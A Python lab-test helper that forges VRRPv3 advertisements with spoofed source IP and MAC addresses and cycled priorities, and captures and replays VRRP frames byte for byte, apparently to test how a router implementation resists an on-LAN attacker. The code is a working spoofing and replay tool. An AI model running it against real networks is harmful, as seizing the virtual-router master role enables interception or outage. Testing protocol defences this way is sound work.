#!/usr/bin/env python3
"""Forged and replayed VRRP adverts for the lab tests (an attacker on the LAN).

  vrrp_forge.py forge --src A --dst B --vrid N --priority P[,P...] [--count N] [--interval-ms M]
                      [--advert-cs C] [--vip V] [--iface IF --src-mac MAC --dst-mac MAC]
      sends VRRPv3 adverts claiming source A (IP_HDRINCL, TTL 255, correct
      checksum), cycling through the priorities, COUNT in all, every M ms;
      with --src-mac, as whole Ethernet frames on IF from that (spoofed) MAC
  vrrp_forge.py replay --iface IF --from A --count N [--delay-s S]
      captures the next N VRRP packets from A seen on IF, waits S seconds and
      sends the frames again, byte for byte (Ethernet and IP headers included)

Prints one line per packet sent. Bounded in count and time: never a flood.
"""
import argparse
import socket
import struct
import sys
import time

VRRP = 112


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total) & 0xFFFF


def advert(src, dst, vrid, priority, advert_cs, vips):
    addresses = b"".join(socket.inet_aton(v) for v in vips)
    body = struct.pack("!BBBBHH", 0x31, vrid, priority, len(vips), advert_cs & 0x0FFF, 0) + addresses
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, VRRP, len(body))
    body = body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(body), 0, 0, 255, VRRP, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + body


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def forge(args):
    if args.src_mac:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        sock.bind((args.iface, 0))
        header = mac_bytes(args.dst_mac) + mac_bytes(args.src_mac) + b"\x08\x00"
        send = lambda packet: sock.send(header + packet)
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        send = lambda packet: sock.sendto(packet, (args.dst, 0))
    priorities = [int(p) for p in args.priority.split(",")]
    for i in range(args.count):
        p = priorities[i % len(priorities)]
        send(advert(args.src, args.dst, args.vrid, p, args.advert_cs, args.vip))
        print("sent forged advert %d priority %d from %s" % (i + 1, p, args.src), flush=True)
        if i + 1 < args.count:
            time.sleep(args.interval_ms / 1000)


def replay(args):
    # Whole Ethernet frames, captured and sent again as they were (the
    # destination MAC included: multicast or the peer's).
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    tap.bind((args.iface, 0x0800))
    tap.settimeout(10)
    captured = []
    deadline = time.time() + 10
    while len(captured) < args.count and time.time() < deadline:
        try:
            frame = tap.recv(2048)
        except socket.timeout:
            break
        ip = frame[14:]
        if len(ip) >= 20 and ip[9] == VRRP and socket.inet_ntoa(ip[12:16]) == args.src:
            captured.append(frame)
    if len(captured) < args.count:
        print("captured only %d packets" % len(captured), file=sys.stderr)
        sys.exit(1)
    time.sleep(args.delay_s)
    for i, frame in enumerate(captured):
        tap.send(frame)
        print("replayed packet %d (%d bytes) from %s" % (i + 1, len(frame) - 14, args.src), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    f = sub.add_parser("forge")
    f.add_argument("--src", required=True)
    f.add_argument("--dst", required=True)
    f.add_argument("--vrid", type=int, required=True)
    f.add_argument("--priority", required=True)
    f.add_argument("--count", type=int, default=1)
    f.add_argument("--interval-ms", type=float, default=25)
    f.add_argument("--advert-cs", type=int, default=10)
    f.add_argument("--vip", action="append", default=[])
    f.add_argument("--iface")
    f.add_argument("--src-mac")
    f.add_argument("--dst-mac")
    r = sub.add_parser("replay")
    r.add_argument("--iface", required=True)
    r.add_argument("--from", dest="src", required=True)
    r.add_argument("--count", type=int, default=3)
    r.add_argument("--delay-s", type=float, default=1.0)
    args = parser.parse_args()
    if args.command == "forge" and args.src_mac and not (args.iface and args.dst_mac):
        parser.error("--src-mac needs --iface and --dst-mac")
    if args.count > 10000:
        parser.error("--count: at most 10000")
    (forge if args.command == "forge" else replay)(args)


if __name__ == "__main__":
    main()
